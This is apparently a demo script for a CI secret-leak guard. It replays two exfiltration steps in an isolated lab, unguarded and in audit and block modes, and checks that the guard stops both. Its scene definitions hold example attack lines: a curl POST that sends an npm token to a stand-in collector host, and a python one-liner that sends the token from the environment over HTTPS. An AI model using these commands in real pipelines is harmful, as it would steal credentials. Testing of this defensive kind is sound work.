#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Two thefts in a network without a way out: unguarded, in audit mode and in block mode.

A step posts a token with curl to a stranger's server, as hundreds of repositories saw it in
September 2025. Another one reads it from its environment and sends it over HTTPS to a host that
the policy allows. The token is made up when this starts. Exit code 0 means that both modes stopped
both.
"""

from __future__ import annotations

import shutil
import sys
import tempfile
import textwrap
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "tests"))

try:
    from lab import Lab, tokens
    from lab.capabilities import missing_root
    from lab.guard import FINDINGS, Guarded, guard
    from lab.tokens import Token
except ImportError as error:
    sys.exit(f"demo: {error.name} is not installed; `make demo` installs what it needs")

UNSUPPORTED = 4
LABEL_WIDTH = 25
COLUMNS = range(22, 37)
"""How narrow and how wide one of the three columns may be."""


@dataclass(frozen=True)
class Scene:
    """A step that somebody else wrote."""

    title: str
    script: str
    """For sh; ``{value}`` is the token, wherever the runner writes it into the script."""
    finding: str
    policy: str = ""

    def shown(self) -> str:
        """The step as it stands in the workflow."""
        lines = self.script.format(value="${{ secrets.NPM_TOKEN }}").splitlines()
        text = lines[0] if len(lines) == 1 else "\n".join(["|", *(f"    {one}" for one in lines)])
        return textwrap.indent(f"- run: {text}", " " * 4)


SCENES = (
    Scene(
        "1. A curl with the token on its command line (GhostAction, September 2025)",
        "curl -sS -X POST -d 'NPM_TOKEN={value}' https://collector.test/",
        "secret-in-argv",
    ),
    Scene(
        "2. A program with the token in its environment sends it over HTTPS to an allowed host",
        "python3 -c 'import os, urllib.request as web\n"
        'web.urlopen("https://collector.test/?" + os.environ["NPM_TOKEN"])\'',
        "secret-in-tls",
        "version: 1\nallow: collector.test\n",
    ),
)


@dataclass(frozen=True)
class Act:
    """One of the three runs of a scene: what the thief got and what the guard said."""

    scene: Scene
    title: str
    code: int
    secret_bytes: int
    data_bytes: int
    """Without what TLS itself needs: its handshake is not the step's data."""
    connections: int
    guarded: Guarded | None
    token: Token

    @property
    def finding(self) -> dict[str, Any]:
        """The first finding of the scene's kind; empty if there is none."""
        if self.guarded is None or not self.guarded.has_report:
            return {}
        return next(iter(self.guarded.findings(self.scene.finding)), {})

    @property
    def stopped(self) -> bool:
        """Whether the guard did all that it promises."""
        return (
            self.guarded is not None
            and self.code == FINDINGS
            and self.data_bytes == 0
            and self.finding.get("secret") == self.token.name
            and self.finding["bytes_left"] == 0
            and not self.guarded.shows(self.token)
        )

    def rows(self) -> dict[str, str]:
        """What the table shows of it."""
        facts = {
            "exit code": str(self.code),
            "connections": str(self.connections),
            "bytes of data collected": str(self.data_bytes),
            "bytes of the token": f"{self.secret_bytes} of {len(self.token.value)}",
        }
        if self.guarded is None:
            return {**facts, "finding": "nobody was watching"}
        if not self.finding:
            return {**facts, "finding": "none"}
        process = self.finding["process"]
        return {
            **facts,
            "finding": f"{self.finding['id']} ({self.finding['severity']})",
            "secret": self.finding["secret"],
            "on its way to": self.finding["destination"],
            "by": " < ".join(Path(one).name for one in (process["exe"], *process["ancestry"][:1])),
            "what was done": self.finding["action_taken"],
            "token in any output": "yes" if self.guarded.shows(self.token) else "no",
        }


def main() -> int:
    """Play all scenes."""
    if missing := missing_root():
        print(
            f"demo: cannot run here: {missing}.\n"
            "It makes network namespaces and loads BPF programs: it needs root, on Linux 6.1 or "
            "later. Try `sudo make demo`.",
            file=sys.stderr,
        )
        return UNSUPPORTED
    token = tokens.npm()
    print("Two steps that somebody else wrote, in a network without a way out, with a token that")
    print("was made up just now.")
    with tempfile.TemporaryDirectory(prefix="leakstop-demo-") as reports:
        codes = [perform(scene, token, Path(reports)) for scene in SCENES]
    return max(codes)


def perform(scene: Scene, token: Token, reports: Path) -> int:
    """Play the three acts of a scene and compare them."""
    print(f"\n{scene.title}\n\n{scene.shown()}\n", flush=True)
    acts = [play(scene, mode, token, reports) for mode in ("", "audit", "block")]
    print(table(acts))
    return conclude(*acts)


def play(scene: Scene, mode: str, token: Token, reports: Path) -> Act:
    """Run the step once, in a lab of its own; without a ``mode`` unguarded."""
    with Lab() as lab:
        script = lab.directory / "step.sh"
        script.write_text(scene.script.format(value=token.value) + "\n")
        command: list[str | Path] = ["sh", "-e", script]
        run = (
            guard(lab, command, mode=mode, policy=scene.policy, secrets=[token], reports=reports)
            if mode
            else None
        )
        code = run.code if run else lab.run(command, env=token.env).returncode
        drop = lab.collector
        return Act(
            scene=scene,
            title=f"leakstop, {mode}" if mode else "unguarded",
            code=code,
            secret_bytes=drop.bytes_of(token.value.encode()),
            data_bytes=sum(
                len(seen.plain if seen.transport == "tls" else seen.wire)
                for seen in drop.connections
            ),
            connections=len(drop.connections),
            guarded=run,
            token=token,
        )


def table(acts: Sequence[Act]) -> str:
    """Set the acts side by side."""
    room = (shutil.get_terminal_size((120, 24)).columns - LABEL_WIDTH) // len(acts) - 2
    width = min(max(room, COLUMNS.start), COLUMNS.stop - 1)
    columns = [act.rows() for act in acts]
    lines = [line("", [act.title for act in acts], width), line("", ["-" * width] * 3, width)]
    for label in max(columns, key=len):
        cells = [textwrap.wrap(rows.get(label, ""), width) for rows in columns]
        for number in range(max(map(len, cells))):
            parts = [cell[number] if number < len(cell) else "" for cell in cells]
            lines.append(line("" if number else label, parts, width))
    return "\n".join(lines)


def line(label: str, cells: Sequence[str], width: int) -> str:
    """One line of the table."""
    return (f"{label:<{LABEL_WIDTH}}" + "".join(f"{cell:<{width + 2}}" for cell in cells)).rstrip()


def conclude(unguarded: Act, *guarded: Act) -> int:
    """Say what the comparison means, and return the exit code."""
    if unguarded.secret_bytes != len(unguarded.token.value):
        print("\ndemo: the lab is broken: unguarded, the collector did not get the token.")
        return 1
    failed = [act for act in guarded if not act.stopped]
    for act in failed:
        said = act.guarded.stderr.strip() if act.guarded else ""
        print(f"\ndemo: {act.title}: the guard did not keep its promise. It said:\n{said}")
    if not failed:
        print(f"\nUnguarded, {unguarded.secret_bytes} bytes of the token left. Guarded, none did.")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
